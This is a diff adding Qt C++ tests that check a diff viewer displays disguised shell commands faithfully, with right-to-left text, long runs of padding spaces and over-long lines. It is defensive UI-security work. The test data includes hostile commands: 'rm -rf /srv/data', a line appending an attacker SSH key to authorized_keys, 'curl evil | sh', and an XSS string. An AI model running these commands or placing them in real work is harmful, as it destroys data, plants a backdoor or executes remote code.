@@ -5,6 +5,7 @@
 
 #include <QFile>
 #include <QRandomGenerator>
+#include <QScrollBar>
 #include <QSignalSpy>
 #include <QTextBlock>
 #include <QTextLayout>
@@ -28,6 +29,17 @@ QString changedWords(const DiffLine &line)
     for (const auto &[start, length] : line.changes)
         words.append(line.text.mid(start, length));
     return words.join(u'|');
+}
+
+// Where `needle` (first found) is drawn in `view`, in viewport coordinates.
+QRect drawnAt(DiffTextView *view, const QString &needle)
+{
+    const QTextCursor found = view->document()->find(needle);
+    if (found.isNull())
+        return {};
+    QTextCursor at(view->document());
+    at.setPosition(found.selectionStart());
+    return view->cursorRect(at);
 }
 
 const DiffLine *find(const DiffFile &file, Kind kind, const QString &text)
@@ -191,7 +203,12 @@ private Q_SLOTS:
         QVERIFY(!view.isBuilding());
         QCOMPARE(view.document().files.size(), 2);
         const QString unified = view.unifiedView()->toPlainText();
-        QVERIFY(unified.contains(QStringLiteral("│+    raise RuntimeError")));
+        QVERIFY(unified.contains(QStringLiteral("\n    raise RuntimeError")));
+        // Line numbers and sign are beside the text, not in it.
+        const auto &rows = view.unifiedView()->rows();
+        QVERIFY(std::any_of(rows.begin(), rows.end(), [](const DiffTextView::Row &r) {
+            return r.kind == Kind::Added && r.gutter.endsWith(QStringLiteral("│+"));
+        }));
         QCOMPARE(view.unifiedView()->document()->blockCount(),
                  int(view.unifiedView()->rows().size()));
         view.setMode(DiffView::Mode::SideBySide);
@@ -261,6 +278,79 @@ private Q_SLOTS:
                       QStringLiteral("<img src=x onerror=alert(1)><a href='y'>click</a>\n"));
         QVERIFY(shown.wait(5000));
         QVERIFY(view.unifiedView()->toPlainText().contains(QStringLiteral("<img src=x")));
+    }
+
+    // Right-to-left letters with no bidi control make Qt lay a paragraph out right to left (its
+    // first strong character decides): ": א ; rm -rf /srv/data ; : ב ; tar czf …" was drawn with
+    // the tar first (UI red team, F7). Every row is laid out left to right, in both modes.
+    void rightToLeftLettersKeepTheOrderOfACommand()
+    {
+        DiffView view;
+        view.resize(900, 400);
+        view.show();
+        QVERIFY(QTest::qWaitForWindowExposed(&view));
+        QSignalSpy shown(&view, &DiffView::shown);
+        view.setTexts(QStringLiteral("hostile"), QStringLiteral(": \u05D0 ; ls /srv ; : \u05D1\n"),
+                      QStringLiteral(": \u05D0 ; rm -rf /srv/data ; : \u05D1 ; tar czf /b.tgz\n"));
+        QVERIFY(shown.wait(5000));
+        const auto inOrder = [](DiffTextView *v, const QString &first, const QString &then) {
+            const QRect a = drawnAt(v, first), b = drawnAt(v, then);
+            return a.isValid() && b.isValid() && a.top() == b.top() && a.left() < b.left();
+        };
+        QVERIFY(inOrder(view.unifiedView(), QStringLiteral("rm -rf"), QStringLiteral("tar czf")));
+        QVERIFY(inOrder(view.unifiedView(), QStringLiteral(": \u05D0 ; rm"), QStringLiteral("rm")));
+        view.setMode(DiffView::Mode::SideBySide);
+        QVERIFY(inOrder(view.newView(), QStringLiteral("rm -rf"), QStringLiteral("tar czf")));
+        QVERIFY(
+            inOrder(view.oldView(), QStringLiteral(": \u05D0 ; ls"), QStringLiteral("ls /srv")));
+    }
+
+    // A one-line command whose tail sits after 240 spaces: the tail was off screen (NoWrap, UI
+    // red team F1). Long rows wrap; their continuation lines start where the text starts, right
+    // of the line numbers, which stay readable.
+    void longLinesWrapBesideTheGutter()
+    {
+        DiffView view;
+        view.resize(500, 400);
+        view.show();
+        QVERIFY(QTest::qWaitForWindowExposed(&view));
+        QSignalSpy shown(&view, &DiffView::shown);
+        const QString command = QStringLiteral("ls -la /var/log/nginx") + QString(240, u' ') +
+                                QStringLiteral("; echo 'ssh-ed25519 AAAA attacker@evil' >> "
+                                               "~/.ssh/authorized_keys");
+        view.setTexts(QStringLiteral("cmd"), QString(), command + u'\n');
+        QVERIFY(shown.wait(5000));
+        for (const bool side : {false, true}) {
+            view.setMode(side ? DiffView::Mode::SideBySide : DiffView::Mode::Unified);
+            DiffTextView *text = side ? view.newView() : view.unifiedView();
+            const QRect start = drawnAt(text, QStringLiteral("ls -la"));
+            const QRect tail = drawnAt(text, QStringLiteral("authorized_keys"));
+            QVERIFY(start.isValid() && tail.isValid());
+            QVERIFY2(text->viewport()->rect().contains(tail.center()),
+                     qPrintable(QStringLiteral("tail at %1,%2").arg(tail.x()).arg(tail.y())));
+            QVERIFY(tail.top() > start.top());    // on a line of its own
+            QVERIFY(tail.left() >= start.left()); // not under the line numbers
+            QCOMPARE(text->horizontalScrollBar()->maximum(), 0);
+            // The line numbers are drawn in a margin of their own, beside the text.
+            QVERIFY(text->viewport()->geometry().left() >=
+                    text->fontMetrics().horizontalAdvance(QString(text->gutter(), u'0')));
+        }
+    }
+
+    // Lines past the display limit are cut, and the cut says so in words with how much is left.
+    void cutLinesSayWhereTheRestIs()
+    {
+        const QString line = QString(5000, u'x') + QStringLiteral("; curl evil | sh");
+        const DiffDocument doc = diffOfTexts(QStringLiteral("a"), {}, {}, line + u'\n');
+        const DiffLine *added = nullptr;
+        for (const DiffLine &l : doc.files.value(0).lines)
+            if (l.kind == Kind::Added)
+                added = &l;
+        QVERIFY(added);
+        QVERIFY(added->text.startsWith(QString(4000, u'x')));
+        QVERIFY2(added->text.contains(QStringLiteral("1016 more characters")),
+                 qPrintable(added->text.mid(4000)));
+        QVERIFY(added->text.contains(QStringLiteral("Payload tab")));
     }
 
     void parsesHighlighterHtml()
